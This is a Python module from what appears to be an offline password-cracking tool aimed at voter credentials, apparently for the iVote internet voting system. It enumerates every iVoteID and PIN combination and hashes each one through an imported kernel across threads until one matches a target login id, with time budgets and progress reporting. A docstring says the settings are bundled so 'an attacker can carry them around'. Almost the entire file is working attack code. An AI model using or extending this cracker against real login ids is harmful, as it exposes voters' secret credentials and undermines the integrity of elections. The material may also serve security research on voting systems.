"""Keyspace arithmetic and the threaded login-id search."""

from __future__ import annotations

import math
import threading
import time
from dataclasses import dataclass
from typing import Callable, Iterator, NamedTuple, Optional

from ..crypto import DEFAULT_ID_DIGITS, DEFAULT_ITERATIONS, DEFAULT_PIN_DIGITS, Credentials
from ..errors import BudgetExceeded, KeyspaceExhausted, ValidationError
from . import kernels


@dataclass(frozen=True)
class Keyspace:
    """Candidate ``(iVoteID, PIN)`` pairs for one search.

    Candidates are enumerated PIN-major: with a fixed id the candidate index
    is the PIN value; otherwise ``index = id * 10**pin_digits + pin``.
    """

    pin_digits: int = DEFAULT_PIN_DIGITS
    iterations: int = DEFAULT_ITERATIONS
    fixed_id: Optional[str] = None
    id_digits: int = DEFAULT_ID_DIGITS

    def __post_init__(self):
        if self.pin_digits < 1 or self.id_digits < 1 or self.iterations < 1:
            raise ValidationError("keyspace sizes must be positive")
        if self.fixed_id is not None:
            if not self.fixed_id.isdigit() or len(self.fixed_id) != self.id_digits:
                raise ValidationError(
                    f"fixed id must be a {self.id_digits}-digit decimal string")

    @classmethod
    def known_id(cls, ivote_id, pin_digits=DEFAULT_PIN_DIGITS, iterations=DEFAULT_ITERATIONS):
        return cls(pin_digits=pin_digits, iterations=iterations, fixed_id=ivote_id,
                   id_digits=len(ivote_id))

    @classmethod
    def all_ids(cls, id_digits=DEFAULT_ID_DIGITS, pin_digits=DEFAULT_PIN_DIGITS,
                iterations=DEFAULT_ITERATIONS):
        return cls(pin_digits=pin_digits, iterations=iterations, id_digits=id_digits)

    @property
    def id_count(self) -> int:
        return 1 if self.fixed_id is not None else 10 ** self.id_digits

    @property
    def candidates(self) -> int:
        return self.id_count * 10 ** self.pin_digits

    def candidate(self, index: int) -> Credentials:
        if not 0 <= index < self.candidates:
            raise IndexError(index)
        pins = 10 ** self.pin_digits
        ident = self.fixed_id if self.fixed_id is not None else f"{index // pins:0{self.id_digits}d}"
        return Credentials(ident, f"{index % pins:0{self.pin_digits}d}")


class SpaceSize(NamedTuple):
    candidates: int
    operations: int
    log2: float


def search_space_size(ks: Keyspace) -> SpaceSize:
    """Exact hash-operation count (``ids * pins * iterations``) and its log2."""
    ops = ks.id_count * 10 ** ks.pin_digits * ks.iterations
    return SpaceSize(ks.candidates, ops, math.log2(ops))


@dataclass(frozen=True)
class WorkUnit:
    start: int
    end: int


def iter_units(ks: Keyspace, unit_size: int) -> Iterator[WorkUnit]:
    if unit_size < 1:
        raise ValidationError("unit_size must be >= 1")
    total = ks.candidates
    for start in range(0, total, unit_size):
        yield WorkUnit(start, min(start + unit_size, total))


def partition(ks: Keyspace, unit_size: int) -> list:
    return list(iter_units(ks, unit_size))


@dataclass(frozen=True)
class ProgressEvent:
    tried: int
    total: int
    elapsed: float
    rate: float          # candidates per second
    eta_seconds: float

    def as_dict(self):
        return {"tried": self.tried, "total": self.total, "elapsed": self.elapsed,
                "rate": self.rate, "eta_seconds": self.eta_seconds}


@dataclass(frozen=True)
class CrackResult:
    credentials: Credentials
    index: int
    tried: int
    elapsed: float


def _default_unit_size(ks: Keyspace, workers: int) -> int:
    # large enough to amortize dispatch, small enough for balance at 8000 iterations
    per_worker = max(1, ks.candidates // (workers * 8))
    return max(64, min(1024, per_worker))


def crack(target_login_id: str, ks: Keyspace, workers: int = 1, *, backend: str | None = None,
          unit_size: int | None = None, budget_seconds: float | None = None,
          progress: Callable[[ProgressEvent], None] | None = None) -> CrackResult:
    """Find the credentials in ``ks`` whose login id equals ``target_login_id``.

    Workers are threads; each kernel call runs without the GIL and polls a
    shared stop byte every 256 candidates, which is raised on the first hit
    or when ``budget_seconds`` elapses.
    """
    if workers < 1:
        raise ValidationError("workers must be >= 1")
    try:
        target = bytes.fromhex(target_login_id)
    except (ValueError, TypeError):
        raise ValidationError("target login id must be hex") from None
    if len(target) != 16:
        raise ValidationError("target login id must encode 16 bytes")
    kernel = kernels.get(backend)
    unit_size = unit_size or _default_unit_size(ks, workers)
    fixed = ks.fixed_id.encode("ascii") if ks.fixed_id is not None else None

    stop = bytearray(1)
    lock = threading.Lock()
    units = iter_units(ks, unit_size)
    state = {"tried": 0, "found": -1, "error": None}
    total = ks.candidates
    started = time.perf_counter()

    def worker():
        try:
            while not stop[0]:
                with lock:
                    unit = next(units, None)
                if unit is None:
                    return
                found, tried = kernel.scan_range(unit.start, unit.end, ks.pin_digits,
                                                 ks.id_digits, fixed, target, ks.iterations, stop)
                with lock:
                    state["tried"] += tried
                    if found >= 0 and state["found"] < 0:
                        state["found"] = found
                        stop[0] = 1
                    done = state["tried"]
                if progress is not None:
                    elapsed = time.perf_counter() - started
                    rate = done / elapsed if elapsed > 0 else 0.0
                    eta = (total - done) / rate if rate > 0 else math.inf
                    progress(ProgressEvent(done, total, elapsed, rate, eta))
        except BaseException as exc:  # surface kernel errors to the caller
            state["error"] = exc
            stop[0] = 1

    timer = None
    if budget_seconds is not None:
        timer = threading.Timer(budget_seconds, lambda: stop.__setitem__(0, 1))
        timer.daemon = True
        timer.start()
    threads = [threading.Thread(target=worker, name=f"crack-{i}", daemon=True)
               for i in range(workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if timer is not None:
        timer.cancel()
    elapsed = time.perf_counter() - started

    if state["error"] is not None:
        raise state["error"]
    if state["found"] >= 0:
        return CrackResult(ks.candidate(state["found"]), state["found"], state["tried"], elapsed)
    if state["tried"] < total:
        raise BudgetExceeded(
            f"time budget exhausted after {state['tried']} of {total} candidates",
            state["tried"])
    raise KeyspaceExhausted(f"no match among {total} candidates", state["tried"])


@dataclass(frozen=True)
class Cracker:
    """Search settings bundled so an attacker can carry them around."""

    workers: int = 1
    backend: Optional[str] = None
    budget_seconds: Optional[float] = None
    unit_size: Optional[int] = None

    def crack(self, target_login_id: str, ks: Keyspace,
              progress: Optional[Callable[[ProgressEvent], None]] = None) -> CrackResult:
        return crack(target_login_id, ks, self.workers, backend=self.backend,
                     unit_size=self.unit_size, budget_seconds=self.budget_seconds,
                     progress=progress)
